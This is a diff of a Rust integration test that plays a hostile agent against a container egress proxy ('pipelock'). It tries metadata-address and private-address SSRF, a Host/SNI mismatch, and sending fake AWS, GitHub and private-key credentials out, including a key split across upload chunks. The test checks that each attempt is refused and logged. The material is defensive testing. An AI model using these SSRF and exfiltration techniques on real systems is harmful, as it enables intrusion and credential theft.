@@ -1,131 +1,386 @@
 //! Issue 5 end to end: a bottle's pipelock refuses what its manifest does not allow,
 //! answers 403 with the reason, and logs every decision, never a secret.
+//!
+//! One hostile agent bottle serves every case: a TLS fake upstream (the sidecar image's
+//! `fake-upstream`) answers on net-egress as `open.example.test` and
+//! `other.example.test`; the agent (curl + python3) attacks from inside, through egress
+//! (its `HTTPS_PROXY`) or straight at pipelock. Names that must resolve to internal
+//! addresses are put in pipelock's `/etc/hosts` (the file Docker manages on the host),
+//! which pipelock reads again when it changes.
 
 use std::process::Command;
 
-use crate::util::{Project, docker, docker_try};
+use crate::util::{Container, Project, docker, docker_try, inspect, upstream_certs};
 
-/// A Debian image with curl, built once per machine (apt works at build time).
-const CURL_IMAGE: &str = "bottle-test-curl:1";
+/// Debian with curl and python3, built once per machine (apt works at build time).
+const CLIENT_IMAGE: &str = "bottle-test-pipelock-client:1";
+const CLIENT_DOCKERFILE: &str = "FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates python3 && rm -rf /var/lib/apt/lists/*\n";
 
-fn curl_image() {
-    if docker_try(&["image", "inspect", "--format", "{{.Id}}", CURL_IMAGE])
+fn client_image() {
+    if docker_try(&["image", "inspect", "--format", "{{.Id}}", CLIENT_IMAGE])
         .trim()
         .is_empty()
     {
         let dir = tempfile::tempdir().expect("temp dir");
-        std::fs::write(
-            dir.path().join("Dockerfile"),
-            "FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n",
-        )
-        .expect("write Dockerfile");
+        std::fs::write(dir.path().join("Dockerfile"), CLIENT_DOCKERFILE).expect("write Dockerfile");
         docker(&[
             "build",
             "-q",
             "-t",
-            CURL_IMAGE,
+            CLIENT_IMAGE,
             dir.path().to_str().expect("utf-8"),
         ]);
     }
 }
 
-/// Run curl on the bottle's internal network through pipelock; returns its stdout.
-fn curl(net: &str, args: &[&str]) -> String {
-    let mut a = vec![
-        "run",
-        "--rm",
-        "--network",
-        net,
-        CURL_IMAGE,
-        "curl",
-        "-s",
-        "-m",
-        "30",
-        "-x",
-        "http://pipelock:8888",
-    ];
-    a.extend_from_slice(args);
-    docker_try(&a)
+/// The manifest: `allow_cidrs` (the fake upstream's own address) comes in a second apply.
+fn manifest(cidrs: &str) -> String {
+    format!(
+        r#"
+bottles:
+  dev:
+    image: {{dockerfile: Dockerfile}}
+    runtime: runc
+    egress:
+      allow: [open.example.test, other.example.test, meta.example.test, loop.example.test, lan.example.test]
+      allow_cidrs: [{cidrs}]
+      upstream_ca: upstream-ca.pem
+agents:
+  x: {{bottle: dev}}
+"#
+    )
 }
 
-#[test]
-fn pipelock_denies_unlisted_hosts_internal_addresses_and_secrets() {
-    curl_image();
-    let p = Project::new("plk");
-    let m = p.manifest(
-        "bottles:\n  dev:\n    image: {dockerfile: Dockerfile}\n    egress:\n      allow: [allowed.invalid]\nagents:\n  x: {bottle: dev}\n",
-    );
-    p.bottle(&["apply", "-f", m.to_str().expect("utf-8")])
+/// Parsed `pipelock.audit` lines of `bottle logs x --node pipelock`, and the raw text.
+fn audit(p: &Project) -> (Vec<serde_json::Value>, String) {
+    let r = p
+        .bottle(&["logs", "x", "-p", &p.name, "--node", "pipelock"])
         .expect(0);
-    let net = p.obj("x", "net-internal");
-    let code = ["-o", "/dev/null", "-w", "%{http_code}"];
-
-    // An unlisted host, plain HTTP and CONNECT.
-    let mut args = code.to_vec();
-    args.push("http://forbidden.example.net/");
-    assert_eq!(curl(&net, &args), "403");
-    let body = curl(&net, &["http://forbidden.example.net/"]);
-    assert!(
-        body.contains("forbidden.example.net is not on this bottle's egress allowlist"),
-        "{body}"
-    );
-    assert!(body.contains("egress-block"), "{body}");
-    let connect = curl(
-        &net,
-        &[
-            "-o",
-            "/dev/null",
-            "-w",
-            "%{http_connect}",
-            "https://forbidden.example.net/",
-        ],
-    );
-    assert_eq!(connect, "403");
-    // IP literals: the metadata address and a private one.
-    for url in [
-        "http://169.254.169.254/latest/meta-data/",
-        "http://10.0.0.1/",
-    ] {
-        let mut args = code.to_vec();
-        args.push(url);
-        assert_eq!(curl(&net, &args), "403", "{url}");
-    }
-    // A secret in a header to an allowed host: refused before any DNS or connection.
-    let secret = format!("ghp_{}", "Zq8mW3xR7tY2vB9nK4pL6sD1fG5hJ0cA8eU3");
-    let header = format!("X-Token: {secret}");
-    let mut args = code.to_vec();
-    args.extend_from_slice(&["-H", &header, "http://allowed.invalid/"]);
-    assert_eq!(curl(&net, &args), "403");
-    // The allowed host is not refused by policy (it does not resolve: 502).
-    let mut args = code.to_vec();
-    args.push("http://allowed.invalid/");
-    assert_eq!(curl(&net, &args), "502");
-
-    let out = Command::new("docker")
-        .args(["logs", &p.obj("x", "pipelock")])
-        .output()
-        .expect("docker logs");
-    let logs =
-        String::from_utf8_lossy(&out.stderr).into_owned() + &String::from_utf8_lossy(&out.stdout);
-    let audit: Vec<serde_json::Value> = logs
+    let logs = r.stdout + &r.stderr;
+    let lines = logs
         .lines()
         .filter_map(|l| serde_json::from_str(l).ok())
         .filter(|v: &serde_json::Value| v["component"] == "pipelock.audit")
         .collect();
-    let has = |reason: &str, host: &str| {
+    (lines, logs)
+}
+
+/// A python3 script that CONNECTs to pipelock itself, then speaks TLS with `sni`.
+fn sni_script(connect: &str, sni: &str) -> String {
+    format!(
+        r#"
+import socket, ssl
+s = socket.create_connection(("pipelock", 8888), timeout=10)
+s.sendall(b"CONNECT {connect}:443 HTTP/1.1\r\nHost: {connect}:443\r\n\r\n")
+head = b""
+while b"\r\n\r\n" not in head:
+    head += s.recv(1)
+print(head.split(b"\r\n")[0].decode())
+try:
+    t = ssl.create_default_context().wrap_socket(s, server_hostname="{sni}")
+    t.sendall(b"GET / HTTP/1.1\r\nHost: {sni}\r\nConnection: close\r\n\r\n")
+    print("SERVED", t.recv(200))
+except Exception as e:
+    print("TLSFAIL", e)
+"#
+    )
+}
+
+/// A python3 chunked upload through egress whose chunks split `key` in two.
+fn split_upload_script(key: &str) -> String {
+    let (a, b) = key.split_at(9);
+    format!(
+        r#"
+import http.client, time
+c = http.client.HTTPSConnection("egress", 3128, timeout=30)
+c.set_tunnel("open.example.test", 443)
+filler = b"let value = compute(input); // ordinary code\n" * 300
+def body():
+    for part in [filler, b"aws_key_id: {a}", b"{b}\n"]:
+        yield part
+        time.sleep(0.2)
+try:
+    c.request("POST", "/count", body=body(), encode_chunked=True,
+              headers={{"Transfer-Encoding": "chunked"}})
+except Exception as e:
+    print("SENDERR", e)
+try:
+    r = c.getresponse()
+    print(r.status, r.read().decode())
+except Exception as e:
+    print("ERR", e)
+"#
+    )
+}
+
+#[test]
+fn a_hostile_agent_gets_nothing_past_pipelock() {
+    client_image();
+    let p = Project::new("plk");
+    let names = [
+        "open.example.test",
+        "other.example.test",
+        "late.example.test",
+    ];
+    let certs = upstream_certs(&p, &names);
+    std::fs::write(
+        p.path("Dockerfile"),
+        format!("FROM {CLIENT_IMAGE}\nCMD [\"sleep\", \"infinity\"]\n"),
+    )
+    .expect("Dockerfile");
+    let m = p.manifest(&manifest(""));
+    let m = m.to_str().expect("utf-8");
+    p.bottle(&["apply", "-f", m]).expect(0);
+
+    // The fake upstream, on net-egress only: a private Docker address.
+    let upstream = Container(format!("{}-fake-upstream", p.obj("x", "t")));
+    let image = inspect(&p.obj("x", "egress"), "{{.Config.Image}}");
+    let mut run = vec![
+        "run".to_string(),
+        "-d".into(),
+        "--name".into(),
+        upstream.0.clone(),
+        "--user".into(),
+        "0:0".into(),
+        "--network".into(),
+        p.obj("x", "net-egress"),
+    ];
+    for n in names {
+        run.extend(["--network-alias".into(), n.into()]);
+    }
+    run.extend([
+        "-v".into(),
+        format!("{}:/certs:ro", certs.display()),
+        "-e".into(),
+        "BOTTLE_FAKE_CERT=/certs/leaf.pem".into(),
+        "-e".into(),
+        "BOTTLE_FAKE_KEY=/certs/leaf.key".into(),
+        "-e".into(),
+        "BOTTLE_LISTEN=0.0.0.0:443".into(),
+        image,
+        "sidecar".into(),
+        "fake-upstream".into(),
+    ]);
+    docker(&run.iter().map(String::as_str).collect::<Vec<_>>());
+    let up_ip = inspect(
+        &upstream.0,
+        "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
+    );
+    assert!(!up_ip.is_empty(), "fake upstream has no address");
+
+    let agent = p.obj("x", "agent");
+    let exec = |args: &[&str]| -> String {
+        let out = Command::new("docker")
+            .args(["exec", &agent])
+            .args(args)
+            .output()
+            .expect("docker exec");
+        format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        )
+    };
+    let sh = |script: &str| exec(&["sh", "-c", script]);
+    let py = |script: &str| exec(&["python3", "-c", script]);
+    let code = |args: &str| sh(&format!("curl -sS -m 30 -o /dev/null {args}; true"));
+
+    // An allowed name resolving to a private address (the upstream's own, not yet in
+    // allow_cidrs): refused, through egress as well as straight at pipelock.
+    let via_egress = code("-w '%{http_code}' https://open.example.test/");
+    assert!(!via_egress.contains("200"), "{via_egress}");
+    let direct = code("-x http://pipelock:8888 -w '%{http_connect}' https://open.example.test/");
+    assert!(direct.contains("403"), "{direct}");
+
+    let (first, logs) = audit(&p);
+    assert!(
+        first.iter().any(|e| e["decision"] == "deny"
+            && e["reason"] == "ssrf"
+            && e["host"] == "open.example.test"),
+        "{logs}"
+    );
+
+    // Only allow_cidrs changes: pipelock is recreated, agent and egress are not.
+    let ids = |n: &str| inspect(&p.obj("x", n), "{{.Id}}");
+    let before = (ids("agent"), ids("egress"), ids("pipelock"));
+    std::fs::write(
+        m,
+        format!("project: {}\n{}", p.name, manifest(&format!("{up_ip}/32"))),
+    )
+    .expect("manifest");
+    p.bottle(&["apply", "-f", m]).expect(0);
+    let after = (ids("agent"), ids("egress"), ids("pipelock"));
+    assert_eq!(before.0, after.0, "the agent was recreated");
+    assert_eq!(before.1, after.1, "egress was recreated");
+    assert_ne!(before.2, after.2, "pipelock kept its old configuration");
+
+    // Names that resolve to internal addresses, through pipelock's /etc/hosts.
+    let pipelock = p.obj("x", "pipelock");
+    let hosts_path = inspect(&pipelock, "{{.HostsPath}}");
+    let mut hosts = std::fs::read_to_string(&hosts_path).expect("read hosts");
+    hosts.push_str(&format!(
+        "169.254.169.254 meta.example.test\n127.0.0.1 loop.example.test\n10.1.2.3 lan.example.test\n{up_ip} late.example.test\n"
+    ));
+    std::fs::write(&hosts_path, hosts).expect("write hosts");
+
+    // Allowed traffic works (the upstream may take a moment to listen).
+    let mut out = String::new();
+    for _ in 0..30 {
+        out = sh("curl -sS -m 10 https://open.example.test/hello");
+        if out.contains("/hello") {
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(500));
+    }
+    assert!(
+        out.contains("\"path\":\"/hello\""),
+        "allowed request: {out}"
+    );
+    // A streamed 100 MB upload, DLP on.
+    let big = sh(
+        "yes 'fn handle(request: Request) -> Response { respond(request.body()) }' | head -c 104857600 \
+         | curl -sS -m 300 -X POST -T - https://open.example.test/count",
+    );
+    assert_eq!(big.trim(), "104857600", "100 MB upload");
+
+    // A host not on the allowlist; CONNECT to an IP literal; allowed names that
+    // resolve to the metadata address, loopback and a private address.
+    for url in [
+        "https://forbidden.example.net/",
+        "https://1.1.1.1/",
+        "https://169.254.169.254/",
+        "https://meta.example.test/",
+        "https://loop.example.test/",
+        "https://lan.example.test/",
+    ] {
+        let c = code(&format!(
+            "-x http://pipelock:8888 -w '%{{http_connect}}' {url}"
+        ));
+        assert!(c.contains("403"), "{url}: {c}");
+        // The agent's own proxy path fails too.
+        let e = code(&format!("-w '%{{http_code}}' {url}"));
+        assert!(!e.contains("200"), "{url} via egress: {e}");
+    }
+
+    // Host/SNI mismatch towards an allowed host.
+    let sni = py(&sni_script("open.example.test", "other.example.test"));
+    assert!(
+        sni.contains("200") && sni.contains("TLSFAIL") && !sni.contains("SERVED"),
+        "{sni}"
+    );
+    let host = code(
+        "-x http://pipelock:8888 -w '%{http_code}' -H 'Host: other.example.test' https://open.example.test/",
+    );
+    assert!(host.contains("403"), "{host}");
+
+    // Secrets in a POST body to an allowed HTTPS host, through egress.
+    let aws = format!("AKIA{}", "Z7XQ4RW3MBK2LJ5N");
+    let ghp = format!("ghp_{}", "Zq8mW3xR7tY2vB9nK4pL6sD1fG5hJ0cA8eU3");
+    let pem = format!(
+        "-----BEGIN RSA PRIVATE KEY-----\n{}\n{}\n",
+        "MIIEowIBAAKCAQEA7bq9Xk3Lw2QmZr8YtN4vH6pJ1sD0fG5hJ0cA8eU3Zq8mW3xR",
+        "q8mW3xR7tY2vB9nK4pL6sD1fG5hJ0cA8eU3Zq8mW3xR7tY2vB9nK4pL6sD1fG5h"
+    );
+    for (secret, rule) in [
+        (format!("aws_key_id = {aws}\n"), "aws-access-key-id"),
+        (format!("token: {ghp}\n"), "github-pat"),
+        (pem.clone(), "private-key"),
+    ] {
+        use base64::Engine as _;
+        let b64 = base64::engine::general_purpose::STANDARD.encode(&secret);
+        let c = sh(&format!(
+            "echo {b64} | base64 -d | curl -sS -m 30 -w ' %{{http_code}}' --data-binary @- https://open.example.test/count; true"
+        ));
+        assert!(c.ends_with(" 403") && c.contains(rule), "{rule}: {c}");
+    }
+    // The AWS key split across chunk boundaries of a chunked upload.
+    let split = py(&split_upload_script(&aws));
+    assert!(
+        split.contains("403") && split.contains("aws-access-key-id"),
+        "{split}"
+    );
+
+    // No way around the proxy: a direct TCP connect to the upstream's address, and
+    // name resolution of an external name or of the upstream's own name.
+    let tcp = py(&format!(
+        "import socket\ntry:\n    socket.create_connection(('{up_ip}', 443), timeout=5); print('CONNECTED')\nexcept Exception as e:\n    print('FAILED', e)"
+    ));
+    assert!(tcp.contains("FAILED"), "{tcp}");
+    for name in ["example.com", "open.example.test"] {
+        let dns = py(&format!(
+            "import socket\ntry:\n    print('RESOLVED', socket.getaddrinfo('{name}', 443))\nexcept Exception as e:\n    print('FAILED', e)"
+        ));
+        assert!(dns.contains("FAILED"), "{name}: {dns}");
+    }
+    let direct = code("--noproxy '*' -m 5 -w '%{http_code}' https://open.example.test/");
+    assert!(!direct.contains("200"), "{direct}");
+
+    // An allowlist change reaches a running pipelock without a restart: its config file
+    // is rewritten in place (what an in-place update of the volume does).
+    let late = || code("-x http://pipelock:8888 -w '%{http_connect}' https://late.example.test/");
+    assert!(late().contains("403"));
+    let vol = p.obj("x", "pipelock-config");
+    let dir = inspect(&vol, "{{.Mountpoint}}");
+    let file = format!("{dir}/config.json");
+    let mut cfg: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&file).expect("read config")).expect("json");
+    cfg["allow"]
+        .as_array_mut()
+        .expect("allow")
+        .push("late.example.test".into());
+    let started = inspect(&pipelock, "{{.State.StartedAt}}");
+    std::fs::write(&file, cfg.to_string()).expect("write config");
+    let mut reloaded = false;
+    for _ in 0..20 {
+        std::thread::sleep(std::time::Duration::from_millis(500));
+        if late().contains("200") {
+            reloaded = true;
+            break;
+        }
+    }
+    assert!(reloaded, "pipelock did not pick up its changed allowlist");
+    assert_eq!(
+        started,
+        inspect(&pipelock, "{{.State.StartedAt}}"),
+        "pipelock restarted"
+    );
+
+    // Every refusal is in the audit log, read with `bottle logs`; no secret is.
+    let (audit, logs) = audit(&p);
+    let denied = |reason: &str, host: &str| {
         audit
             .iter()
             .any(|e| e["decision"] == "deny" && e["reason"] == reason && e["host"] == host)
     };
-    assert!(has("not-allowlisted", "forbidden.example.net"), "{logs}");
-    assert!(has("ip-literal", "169.254.169.254"), "{logs}");
-    assert!(has("ip-literal", "10.0.0.1"), "{logs}");
+    for (reason, host) in [
+        ("not-allowlisted", "forbidden.example.net"),
+        ("ip-literal", "1.1.1.1"),
+        ("ip-literal", "169.254.169.254"),
+        ("ssrf", "meta.example.test"),
+        ("ssrf", "loop.example.test"),
+        ("ssrf", "lan.example.test"),
+        ("sni-mismatch", "open.example.test"),
+        ("host-mismatch", "open.example.test"),
+    ] {
+        assert!(denied(reason, host), "no {reason} for {host} in:\n{logs}");
+    }
+    for rule in ["aws-access-key-id", "github-pat", "private-key"] {
+        assert!(
+            audit.iter().any(|e| e["reason"] == "dlp"
+                && e["rule"] == rule
+                && e["host"] == "open.example.test"),
+            "no DLP {rule} in:\n{logs}"
+        );
+    }
     assert!(
         audit
             .iter()
-            .any(|e| e["reason"] == "dlp" && e["rule"] == "github-pat"),
-        "{logs}"
+            .filter(|e| e["reason"] == "dlp" && e["rule"] == "aws-access-key-id")
+            .count()
+            >= 2,
+        "the split key is not in the log:\n{logs}"
     );
-    assert!(has("resolve", "allowed.invalid"), "{logs}");
-    assert!(!logs.contains(&secret[4..]), "a secret reached the log");
+    for secret in [&aws[4..], &ghp[4..], "MIIEowIBAAKCAQEA7bq9Xk3L"] {
+        assert!(!logs.contains(secret), "a secret reached the log");
+    }
 }
